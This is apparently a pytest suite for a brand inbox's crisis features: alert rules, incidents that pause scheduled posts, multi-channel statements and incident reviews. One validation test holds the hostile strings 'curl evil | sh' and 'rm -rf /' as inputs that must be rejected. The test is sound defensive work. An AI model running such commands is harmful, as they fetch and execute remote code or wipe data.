"""The crisis toolkit's store logic: listening rules and alerts, incidents, paused posts,
the statement campaign and the review, on SQLite and PostgreSQL."""

from __future__ import annotations

import dataclasses
import json
import logging
import shlex
import sys
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from adapters.base import Direction
from inbox import events
from inbox.core.clock import FixedClock
from inbox.core.errors import InvalidInput, PermissionDenied
from inbox.core.models import AlertRule, Campaign, Event, Incident, Outbound, Thread, ThreadTag
from inbox.crisis import incidents, listening
from inbox.crisis.review import Activity, Outcome
from inbox.outbox.problems import ProblemCode
from inbox.reports import review as review_report
from inbox.service import InboxService
from inbox.store.ingest import Store
from tests.support.items import T0, add_account, item

NOW = T0 + timedelta(hours=13)
"""Tests look at the world at 21:00, with T0 (08:00) the start of the trailing baseline."""


def minutes_before_now(minutes: float) -> float:
    """`item(minutes=...)` for a message `minutes` before NOW."""
    return (NOW - T0).total_seconds() / 60 - minutes


@pytest.fixture
def people(engine):
    """casey (lead) and alex (agent), added by the bootstrap admin."""
    setup = InboxService(engine)
    setup.add_agent("root", "Root", "admin")
    admin = InboxService(engine, actor="root")
    admin.add_agent("casey", "Casey Morgan", "lead")
    admin.add_agent("alex", "Alex Kim", "agent")


@pytest.fixture
def clock_now():
    return FixedClock(NOW)


@pytest.fixture
def lead(engine, people, clock_now) -> InboxService:
    return InboxService(engine, actor="casey", clock=clock_now)


@pytest.fixture
def agent(engine, people, clock_now) -> InboxService:
    return InboxService(engine, actor="alex", clock=clock_now)


def ingest(engine, account, items):
    Store(engine).ingest(account, "mentions", items, None)


def alert_events(engine) -> list[dict]:
    raised = select(Event.__table__).where(Event.__table__.c.type == events.AlertRaised.type)
    with engine.connect() as connection:
        return [dict(row.payload) for row in connection.execute(raised)]


# -- listening ----------------------------------------------------------------------------


def test_a_volume_spike_against_the_trailing_baseline_raises_one_alert(engine, lead):
    account = add_account(engine, "demo-x", "@brand")
    baseline = [
        item(f"b{hour}", f"b{hour}", minutes=minutes_before_now(60 + 30 + 60 * hour))
        for hour in range(12)
    ]
    spike = [
        item(f"s{number}", f"s{number}", minutes=minutes_before_now(number + 1))
        for number in range(24)
    ]
    ingest(engine, account, baseline + spike)
    lead.add_listening_rule("surge", listening.VOLUME_SPIKE, {"min_count": 20, "factor": 3})

    [alert] = listening.evaluate_rules(engine, NOW)

    assert alert.rule_name == "surge"
    assert alert.payload == {"current": 24, "baseline": 12, "expected": 1.0}
    assert "24 messages in the last 60 min (24.0x the usual 1.0)" in alert.summary
    assert listening.evaluate_rules(engine, NOW + timedelta(minutes=5)) == []
    assert [payload["alert_id"] for payload in alert_events(engine)] == [alert.id]


def test_a_spike_needs_the_minimum_count_and_the_factor(engine, lead):
    account = add_account(engine, "demo-x", "@brand")
    usual = [item(f"b{n}", f"b{n}", minutes=minutes_before_now(70 + 12 * n)) for n in range(60)]
    now = [item(f"s{n}", f"s{n}", minutes=minutes_before_now(n + 1)) for n in range(21)]
    ingest(engine, account, usual + now)
    lead.add_listening_rule("five times", listening.VOLUME_SPIKE, {"min_count": 20, "factor": 5})
    lead.add_listening_rule(
        "at least thirty", listening.VOLUME_SPIKE, {"min_count": 30, "factor": 1}
    )
    lead.add_listening_rule("four times", listening.VOLUME_SPIKE, {"min_count": 20, "factor": 4})

    [alert] = listening.evaluate_rules(engine, NOW)

    assert alert.rule_name == "four times", "21 against a usual 5 an hour is 4.2x, and under 30"
    assert alert.payload == {"current": 21, "baseline": 60, "expected": 5.0}


def test_a_negative_share_over_the_window_raises_an_alert(engine, lead):
    account = add_account(engine, "demo-mastodon", "@brand")
    angry = "This is terrible, the worst service ever, I hate it"
    happy = "Love the new update, great work"
    items = [
        item(f"n{n}", f"n{n}", minutes=minutes_before_now(n + 1), text=angry) for n in range(6)
    ]
    items += [
        item(f"p{n}", f"p{n}", minutes=minutes_before_now(n + 1), text=happy) for n in range(4)
    ]
    items += [
        item(f"old{n}", f"old{n}", minutes=minutes_before_now(200), text=angry) for n in range(10)
    ]
    ingest(engine, account, items)
    Store(engine).score_sentiment()
    lead.add_listening_rule("angry", listening.NEGATIVE_SHARE, {"share": 0.5, "min_count": 10})
    lead.add_listening_rule("furious", listening.NEGATIVE_SHARE, {"share": 0.7, "min_count": 10})

    [alert] = listening.evaluate_rules(engine, NOW)

    assert alert.rule_name == "angry"
    assert alert.payload == {"scored": 10, "negative": 6, "share": 0.6}
    assert "60% of 10 messages in the last 60 min are negative" in alert.summary


def test_keyword_rules_filter_by_platform_and_language_and_match_whole_words(engine, lead):
    x = add_account(engine, "demo-x", "@brand")
    mastodon = add_account(engine, "demo-mastodon", "@brand")
    german = dataclasses.replace(
        item("m1", "m1", minutes=minutes_before_now(5), text="Checkout ist down"),
        raw={"language": "de"},
    )
    english = dataclasses.replace(
        item("m2", "m2", minutes=minutes_before_now(5), text="checkout is DOWN again"),
        raw={"language": "en"},
    )
    ingest(engine, mastodon, [german, english])
    ingest(
        engine,
        x,
        [
            item("x1", "x1", minutes=minutes_before_now(5), text="is the app down?"),
            item("x2", "x2", minutes=minutes_before_now(5), text="the download is slow"),
            item("x3", "x3", minutes=minutes_before_now(90), text="down since this morning"),
        ],
    )
    lead.add_listening_rule(
        "down on x", listening.KEYWORD, {"keywords": "down, outage", "platforms": "demo-x"}
    )
    lead.add_listening_rule(
        "down in german", listening.KEYWORD, {"keywords": ["down"], "languages": ["de"]}
    )

    alerts = {alert.rule_name: alert for alert in listening.evaluate_rules(engine, NOW)}

    assert alerts["down on x"].payload["matches"] == 1, (
        "'download' is not 'down'; x3 is outside the window"
    )
    assert alerts["down in german"].payload["matches"] == 1
    with engine.connect() as connection:
        german_thread = connection.execute(
            select(Thread.__table__.c.id).where(Thread.__table__.c.thread_key == "m1")
        ).scalar()
    assert alerts["down in german"].payload["thread_ids"] == [german_thread]


def test_a_keyword_rule_stays_quiet_in_its_cooldown_and_then_counts_only_new_messages(engine, lead):
    account = add_account(engine, "demo-x", "@brand")
    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(10), text="outage!")])
    lead.add_listening_rule(
        "outage", listening.KEYWORD, {"keywords": "outage", "cooldown_minutes": 30}
    )

    assert len(listening.evaluate_rules(engine, NOW)) == 1
    ingest(engine, account, [item("b", "b", minutes=minutes_before_now(-5), text="outage still")])
    assert listening.evaluate_rules(engine, NOW + timedelta(minutes=10)) == [], "in its cooldown"
    [later] = listening.evaluate_rules(engine, NOW + timedelta(minutes=31))
    assert later.payload["matches"] == 1, "the message already alerted on is not counted again"
    assert listening.evaluate_rules(engine, NOW + timedelta(minutes=70)) == [], (
        "nothing new arrived"
    )


def writes_stdin_to(path) -> str:
    """A command line that writes what it reads on stdin to `path`."""
    script = f"import sys; open({str(path)!r}, 'w').write(sys.stdin.read())"
    return shlex.join([sys.executable, "-c", script])


def test_a_rule_runs_the_command_this_machine_defines_with_the_alert_on_stdin(
    engine, lead, tmp_path
):
    from inbox.runtime import crisis_after_landing

    account = add_account(engine, "demo-x", "@brand")
    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
    written = tmp_path / "page.json"
    lead.add_listening_rule(
        "outage", listening.KEYWORD, {"keywords": "outage", "command": "page-oncall"}
    )

    crisis_after_landing(engine, {"page-oncall": writes_stdin_to(written)})(NOW, None)

    [alert] = lead.alerts()
    paged = json.loads(written.read_text())
    assert (paged["id"], paged["rule"], paged["summary"]) == (alert.id, "outage", alert.summary)


def test_a_command_this_machine_does_not_define_runs_nothing_and_is_logged(
    engine, lead, tmp_path, caplog
):
    account = add_account(engine, "demo-x", "@brand")
    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
    planted, fallback = tmp_path / "planted.json", tmp_path / "fallback.json"
    lead.add_listening_rule(
        "outage", listening.KEYWORD, {"keywords": "outage", "command": "page-oncall"}
    )
    rule = lead.listening_rule(
        lead.add_listening_rule("down", listening.KEYWORD, {"keywords": "outage"})
    )
    # a command line written straight into the table, as a lead's database login could
    with engine.begin() as connection:
        connection.execute(
            update(AlertRule.__table__)
            .where(AlertRule.__table__.c.id == rule.id)
            .values(config={**rule.config, "command": writes_stdin_to(planted)})
        )
    caplog.set_level(logging.WARNING, logger=listening.__name__)

    alerts = listening.evaluate_rules(
        engine, NOW, commands={"notify": "true"}, alert_command=writes_stdin_to(fallback)
    )

    assert len(alerts) == 2
    assert not planted.exists() and not fallback.exists(), "nothing ran, not even the default"
    unknown = [r.getMessage() for r in caplog.records if "does not define" in r.getMessage()]
    assert len(unknown) == 2
    assert "rule 'outage' names the command 'page-oncall'" in unknown[0]
    assert "[listening] commands: notify" in unknown[0]


def test_a_rule_without_a_command_runs_the_command_given_to_the_check(engine, lead, tmp_path):
    account = add_account(engine, "demo-x", "@brand")
    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(1), text="total outage")])
    written = tmp_path / "page.json"
    lead.add_listening_rule("outage", listening.KEYWORD, {"keywords": "outage"})

    [alert] = lead.evaluate_listening(alert_command=writes_stdin_to(written))

    assert json.loads(written.read_text())["id"] == alert.id


def test_a_rules_command_is_a_name_the_worker_defines_not_a_command_line(engine, lead):
    with pytest.raises(InvalidInput, match="not a command line"):
        lead.add_listening_rule(
            "outage", listening.KEYWORD, {"keywords": "outage", "command": "curl evil | sh"}
        )
    rule = lead.listening_rule(
        lead.add_listening_rule(
            "outage", listening.KEYWORD, {"keywords": "outage", "command": "defined-elsewhere"}
        )
    )
    assert rule.config["command"] == "defined-elsewhere", "the editing machine may not be it"
    with pytest.raises(InvalidInput, match="not a command line"):
        lead.edit_listening_rule(rule.id, version=rule.version, config={"command": "rm -rf /"})
    edited = lead.edit_listening_rule(rule.id, version=rule.version, config={"command": ""})
    assert "command" not in edited.config


def test_rules_are_checked_and_only_leads_manage_them(engine, lead, agent):
    with pytest.raises(PermissionDenied, match="only admin, lead may manage listening rules"):
        agent.add_listening_rule("x", listening.KEYWORD, {"keywords": "down"})
    with pytest.raises(InvalidInput, match="needs at least one keyword"):
        lead.add_listening_rule("x", listening.KEYWORD, {"keywords": " , "})
    with pytest.raises(InvalidInput, match="share must be between 0.01 and 1"):
        lead.add_listening_rule("x", listening.NEGATIVE_SHARE, {"share": 5})
    with pytest.raises(InvalidInput, match="has no setting keywords"):
        lead.add_listening_rule("x", listening.VOLUME_SPIKE, {"keywords": "down"})
    rule_id = lead.add_listening_rule("down", listening.KEYWORD, {"keywords": "down"})
    assert [rule.describe() for rule in lead.listening_rules()] == ["mentions of down"]
    lead.remove_listening_rule(rule_id)
    assert lead.listening_rules() == []


# -- incidents, tagging, paused posts -------------------------------------------------------


def test_declaring_pauses_every_scheduled_post_until_a_lead_resumes_them(
    engine, lead, agent, clock_now
):
    account = add_account(engine, "demo-x", "@brand")
    first = lead.schedule_post(account.id, "Black Friday deals!", NOW + timedelta(hours=2))
    second = lead.schedule_post(account.id, "Our new colours", NOW + timedelta(hours=5))
    with pytest.raises(
        PermissionDenied, match="alex is an agent; only admin, lead may declare incidents"
    ):
        agent.declare_incident("Checkout outage")

    incident, paused = lead.declare_incident(
        "Checkout outage", severity=1, scope="global", update_interval_minutes=30
    )

    assert paused == [first.id, second.id]
    posts = lead.scheduled_posts()
    assert {(post.status, post.paused_reason) for post in posts} == {
        ("paused", f"incident {incident.id}: Checkout outage")
    }
    during = lead.schedule_post(account.id, "Cyber Monday", NOW + timedelta(days=1))
    assert during.status == "paused", "a post added during an incident starts paused"
    assert incident.next_update_due == NOW + timedelta(minutes=30)
    lead.end_incident(incident.id)
    assert {post.status for post in lead.scheduled_posts()} == {"paused"}, "ending does not resume"

    with pytest.raises(PermissionDenied):
        agent.resume_posts()
    assert lead.resume_posts([first.id]) == [first.id]
    with pytest.raises(InvalidInput, match="is scheduled, not paused"):
        lead.resume_posts([first.id])
    assert lead.resume_posts() == [second.id, during.id]
    lead.cancel_post(second.id)
    edited = lead.edit_post(first.id, text="Deals, later")
    assert [(post.id, post.status) for post in lead.scheduled_posts()] == [
        (first.id, "scheduled"),
        (second.id, "cancelled"),
        (during.id, "scheduled"),
    ] and edited.text == "Deals, later"


def test_an_incident_tags_matching_threads_then_new_ones_after_ingest(engine, lead, clock_now):
    account = add_account(engine, "demo-x", "@brand")
    ingest(
        engine,
        account,
        [
            item("a", "a", minutes=minutes_before_now(30), text="is checkout down?"),
            item("b", "b", minutes=minutes_before_now(20), text="the download is fine"),
            item("c", "c", minutes=minutes_before_now(600), text="down yesterday, still open"),
        ],
    )
    incident, _ = lead.declare_incident("Checkout outage", match=["down", "outage"])
    assert incident.threads == 2 and incident.match == ("down", "outage")

    clock_now.advance(minutes=10)
    ingest(
        engine, account, [item("d", "d", minutes=minutes_before_now(-5), text="OUTAGE here too")]
    )
    assert incidents.tag_incident_threads(engine, incident.id, clock_now()) == 1
    assert incidents.tag_active_incidents(engine, clock_now()) == {incident.id: 0}, "nothing twice"

    with engine.connect() as connection:
        tagged = (
            connection.execute(
                select(Thread.__table__.c.thread_key)
                .join(ThreadTag.__table__, ThreadTag.__table__.c.thread_id == Thread.__table__.c.id)
                .where(
                    ThreadTag.__table__.c.tag == f"incident-{incident.id}",
                    Thread.__table__.c.incident_id == incident.id,
                )
                .order_by(Thread.__table__.c.thread_key)
            )
            .scalars()
            .all()
        )
        tag_events = (
            connection.execute(
                select(Event.__table__.c.actor).where(
                    Event.__table__.c.type == events.ThreadTagged.type
                )
            )
            .scalars()
            .all()
        )
    assert tagged == ["a", "c", "d"]
    assert tag_events == ["casey", "casey", "system"]
    assert lead.incident(incident.id).open_threads == 3


def test_updates_record_the_public_update_and_move_the_next_one(engine, lead, clock_now):
    incident, _ = lead.declare_incident("Outage", update_interval_minutes=45)
    clock_now.advance(minutes=40)
    updated = lead.update_incident(
        incident.id, public_update=True, severity=1, status_url="https://status.example"
    )
    assert updated.next_update_due == NOW + timedelta(minutes=85)
    assert (updated.severity, updated.status_url) == (1, "https://status.example")
    with pytest.raises(InvalidInput, match="severity is 1, 2 or 3"):
        lead.update_incident(incident.id, severity=5)
    ended = lead.end_incident(incident.id, "fixed")
    assert ended.ended_at == clock_now() and ended.next_update_due is None
    with pytest.raises(InvalidInput, match="has already ended"):
        lead.end_incident(incident.id)


# -- one statement everywhere ------------------------------------------------------------


def test_a_statement_that_does_not_fit_one_channel_is_refused_then_sent_where_it_fits(
    engine, lead, agent
):
    x = add_account(engine, "demo-x", "@brand", send_latency_scale=0, send_failure_rate=0)
    small = add_account(
        engine, "demo-mastodon", "@brand", text_limit=40, send_latency_scale=0, send_failure_rate=0
    )
    ingest(engine, x, [item("a", "a", minutes=minutes_before_now(5), text="checkout down?")])
    ingest(engine, small, [item("b", "b", minutes=minutes_before_now(5), text="checkout down!!")])
    statement = (
        "We know checkout is failing for some of you and are working on a fix. "
        "Updates: {incident.status_url}"
    )
    incident, _ = lead.declare_incident(
        "Checkout outage",
        holding_statement=statement,
        status_url="https://status.example",
        match=["down"],
    )
    with pytest.raises(PermissionDenied):
        agent.send_statement(incident.id)

    plan = lead.plan_statement(incident.id, reply_to_threads=True)
    assert [(target.kind, target.channel, target.fits) for target in plan.targets] == [
        ("post", "X (demo)", True),
        ("post", "Mastodon (demo)", False),
        ("reply", "X (demo)", True),
        ("reply", "Mastodon (demo)", False),
    ]
    assert (
        "does not fit (2):" in plan.summary() and "Too long for Mastodon (demo)" in plan.summary()
    )
    with pytest.raises(InvalidInput, match="nothing was sent"):
        lead.send_statement(incident.id, reply_to_threads=True)
    assert lead.outbox() == []

    _, campaigns = lead.send_statement(incident.id, reply_to_threads=True, skip_unfit=True)

    assert [(campaign.kind, campaign.targets) for campaign in campaigns] == [
        ("broadcast", 1),
        ("bulk_reply", 1),
    ]
    rows = lead.outbox()
    assert {(row.kind, row.platform, row.status) for row in rows} == {
        ("post", "demo-x", "queued"),
        ("reply", "demo-x", "queued"),
    }
    assert all(row.rendered_text.endswith("https://status.example") for row in rows)
    with engine.connect() as connection:
        assert set(connection.execute(select(Campaign.__table__.c.incident_id)).scalars()) == {
            incident.id
        }
        sent = connection.execute(
            select(Event.__table__.c.payload).where(
                Event.__table__.c.type == events.IncidentStatementSent.type
            )
        ).scalar_one()
        assert connection.execute(select(Incident.__table__.c.last_update_at)).scalar() == NOW
    assert (sent["posts"], sent["replies"], sent["channels"]) == (1, 1, {"X (demo)": 2})
    assert len(sent["skipped"]) == 2


# -- review -------------------------------------------------------------------------------


def test_a_statement_goes_only_to_accounts_that_can_publish_posts(engine, lead):
    mastodon = add_account(engine, "demo-mastodon", "@brand", send_latency_scale=0)
    reddit = add_account(engine, "demo-reddit", "u/brand", send_latency_scale=0)
    add_account(engine, "demo-email", "support@brand.example", send_latency_scale=0)
    incident, _ = lead.declare_incident("Outage", holding_statement="We are on it.")

    plan = lead.plan_statement(incident.id)

    assert [(target.channel, target.fits) for target in plan.targets] == [("Mastodon (demo)", True)]
    assert [target.account_id for target in plan.targets] == [mastodon.id]
    summary = plan.summary()
    assert "not posted on " in summary and "cannot publish a post from the inbox" in summary
    assert "u/brand" in summary and "support@brand.example" in summary

    chosen = lead.plan_statement(incident.id, account_ids=[reddit.id])
    [target] = chosen.targets
    assert not target.fits
    assert [problem.code for problem in target.problems] == [ProblemCode.POSTS_NOT_ALLOWED]
    assert "cannot publish a post" in target.problems[0].text


def test_only_a_public_statement_restarts_the_update_clock(engine, lead, clock_now):
    x = add_account(engine, "demo-x", "@brand", send_latency_scale=0, send_failure_rate=0)
    ingest(engine, x, [item("a", "a", minutes=minutes_before_now(5), text="is it down?")])
    incident, _ = lead.declare_incident(
        "Outage", holding_statement="We are on it.", match=["down"], update_interval_minutes=30
    )
    clock_now.advance(minutes=20)

    lead.send_statement(incident.id, account_ids=[], reply_to_threads=True)
    assert lead.incident(incident.id).next_update_due == NOW + timedelta(minutes=30)

    lead.send_statement(incident.id, account_ids=[x.id])
    assert lead.incident(incident.id).next_update_due == NOW + timedelta(minutes=50)


def test_the_review_has_the_timeline_the_numbers_and_a_csv_of_threads(
    engine, lead, clock_now, tmp_path
):
    account = add_account(engine, "demo-x", "@brand", send_latency_scale=0, send_failure_rate=0)
    ingest(
        engine,
        account,
        [
            item("old", "old", minutes=minutes_before_now(60 * 24 * 3), text="where is my order"),
            item(
                "old-reply",
                "old",
                minutes=minutes_before_now(60 * 24 * 3) + 30,
                direction=Direction.OUT,
                text="on its way",
            ),
            item("a", "a", minutes=minutes_before_now(5), text="checkout is down, terrible"),
        ],
    )
    lead.add_listening_rule("down", listening.KEYWORD, {"keywords": "down"})
    listening.evaluate_rules(engine, NOW)
    incident, _ = lead.declare_incident(
        "Checkout outage", holding_statement="We are on it.", match=["down"], severity=1
    )
    clock_now.advance(minutes=20)
    ingest(
        engine,
        account,
        [
            item(
                "a-reply",
                "a",
                minutes=minutes_before_now(-20),
                direction=Direction.OUT,
                text="Sorry, fixing it",
            )
        ],
    )
    lead.send_statement(incident.id)
    clock_now.advance(minutes=100)
    lead.end_incident(incident.id, "fixed")

    review = lead.incident_review(incident.id)

    assert [entry.type for entry in review.timeline] == [
        events.AlertRaised.type,
        events.IncidentDeclared.type,
        events.PostsPaused.type,
        events.IncidentStatementSent.type,
        events.IncidentEnded.type,
    ]
    assert review.first_response_during.p50_seconds == 25 * 60
    assert review.first_response_before.p50_seconds == 30 * 60
    assert review.outcomes == {Outcome.CLOSED: 0, Outcome.ANSWERED: 1, Outcome.WAITING: 0}
    assert review.activity == {
        "casey": {
            Activity.DECLARED: 1,
            Activity.STATEMENTS: 1,
            Activity.TAGGED: 1,
            Activity.ENDED: 1,
        }
    }
    assert review.statements[0].reach == {"X (demo)": {"queued": 1}}
    assert sum(hour.incident_inbound for hour in review.hours) == 1

    markdown = review_report.render_review_markdown(review, "review")
    for expected in (
        "# Incident 1 review: Checkout outage",
        "alert: down: 1 message mentions down in the last 60 min",
        "declared: Checkout outage (severity 1, national)",
        "statement: 1 post, 0 replies (X (demo) 1)",
        "ended: fixed",
        "During the incident (its threads): median 25m 00s, p90 25m 00s (1 thread)",
        "The 30 days before (all threads): median 30m 00s",
        "| casey | declared the incident, sent 1 statement, tagged 1 thread "
        "and ended the incident |",
        "| answered, still open | 1 |",
        "1 thread on the incident, each counted once.",
        "![Messages in per hour](review-volume.svg)",
    ):
        assert expected in markdown
    assert "data:image" not in markdown
    written = review_report.write_review(review, tmp_path / "review.html")
    assert "<h2>Timeline</h2>" in written.document.read_text()
    assert "data:image/svg+xml;base64," in written.document.read_text(), "one file, charts in it"
    assert written.charts == ()
    lines = written.threads.read_text().splitlines()
    assert lines[0].startswith("id,platform,account,kind,status,outcome") and len(lines) == 2
    assert ",1500.0," in lines[1] and ",answered, still open," not in lines[1]
    assert '"answered, still open"' in lines[1]
    with pytest.raises(InvalidInput, match="name it .html or .md"):
        review_report.write_review(review, tmp_path / "review.pdf")


def test_a_markdown_review_links_its_charts_written_beside_it(engine, lead, clock_now, tmp_path):
    account = add_account(engine, "demo-x", "@brand")
    ingest(engine, account, [item("a", "a", minutes=minutes_before_now(5), text="it is down")])
    incident, _ = lead.declare_incident("Checkout outage", match=["down"])
    clock_now.advance(minutes=30)
    lead.end_incident(incident.id, "fixed")

    written = review_report.write_review(lead.incident_review(incident.id), tmp_path / "review.md")

    markdown = written.document.read_text()
    assert [chart.name for chart in written.charts] == ["review-volume.svg", "review-negative.svg"]
    for chart in written.charts:
        assert f"]({chart.name})" in markdown
        assert chart.read_text().startswith("<svg") and chart.stat().st_mode & 0o777 == 0o600
    assert "base64" not in markdown


def test_a_statement_reads_as_it_went_out_with_its_variables_filled(engine, lead):
    add_account(engine, "demo-x", "@brand")
    incident, _ = lead.declare_incident("Checkout outage", status_url="https://status.example")
    lead.send_statement(
        incident.id, text="Update on {incident.title}: fixed. Details: {incident.status_url}"
    )

    [statement] = lead.incident_review(incident.id).statements

    assert statement.text == "Update on Checkout outage: fixed. Details: https://status.example"


def test_the_hourly_figures_cover_the_incident_and_an_hour_either_side(engine, lead, clock_now):
    account = add_account(engine, "demo-x", "@brand")
    ingest(
        engine,
        account,
        [
            item("weeks-ago", "old", minutes=minutes_before_now(60 * 24 * 20), text="hello"),
            item("now", "old", minutes=minutes_before_now(2), text="the app is down"),
        ],
    )
    incident, _ = lead.declare_incident("Checkout outage", match=["down"])
    clock_now.advance(minutes=55)
    lead.end_incident(incident.id, "fixed")
    clock_now.advance(hours=5)

    review = lead.incident_review(incident.id)

    assert review.threads and len(review.hours) <= 4, "55 minutes and an hour either side"
    assert review.hours[0].start <= NOW - timedelta(hours=1) < review.hours[1].start
    assert review.hours[-1].start <= NOW + timedelta(minutes=55 + 60)
    assert sum(hour.inbound for hour in review.hours) == 1, "the message of weeks ago is not in"


def test_each_incident_thread_has_one_outcome(engine, lead, agent, clock_now):
    account = add_account(engine, "demo-x", "@brand")
    ingest(
        engine,
        account,
        [
            item(key, key, minutes=minutes_before_now(10), text=f"{key}: it is down")
            for key in ("closed", "answered", "asked-again", "waiting")
        ]
        + [
            item("r1", "answered", minutes=minutes_before_now(5), direction=Direction.OUT),
            item("r2", "asked-again", minutes=minutes_before_now(6), direction=Direction.OUT),
            item("again", "asked-again", minutes=minutes_before_now(4), text="still down"),
        ],
    )
    incident, _ = lead.declare_incident("Checkout outage", match=["down"])
    closed = next(row["id"] for row in lead.incident_review(incident.id).threads)
    lead.close([closed])

    review = lead.incident_review(incident.id)

    assert review.outcomes == {Outcome.CLOSED: 1, Outcome.ANSWERED: 1, Outcome.WAITING: 2}
    assert sum(review.outcomes.values()) == len(review.threads) == 4


def test_who_did_what_counts_threads_and_speaks_of_actions(engine, lead, agent, clock_now):
    account = add_account(engine, "demo-x", "@brand")
    ingest(
        engine,
        account,
        [item(key, key, minutes=minutes_before_now(3), text="down again") for key in "abc"],
    )
    incident, _ = lead.declare_incident("Checkout outage", match=["down"])
    thread_ids = [row["id"] for row in lead.incident_review(incident.id).threads]
    clock_now.advance(minutes=5)
    agent.take(thread_ids[:2])
    for thread_id in thread_ids[:2]:
        agent.queue_reply(thread_id, "Sorry, we are on it")
    agent.queue_reply(thread_ids[0], "It should work again now", again=True)
    agent.add_note(thread_ids[2], "@casey this one is a journalist")
    lead.close(thread_ids[2:])
    clock_now.advance(minutes=5)
    lead.end_incident(incident.id, "fixed")

    people = dict(
        (row["who"], row["what"])
        for row in review_report.review_sections(lead.incident_review(incident.id))[5][2]
    )

    assert people == {
        "alex": "answered 2 threads, took 2 threads and wrote 1 note",
        "casey": "declared the incident, tagged 3 threads, closed 1 thread and ended the incident",
    }


def test_statements_need_a_text(engine, lead):
    add_account(engine, "demo-x", "@brand")
    incident, _ = lead.declare_incident("Quiet")
    with pytest.raises(InvalidInput, match="has no holding statement"):
        lead.plan_statement(incident.id)
    with engine.connect() as connection:
        assert connection.execute(select(Outbound.__table__.c.id)).first() is None
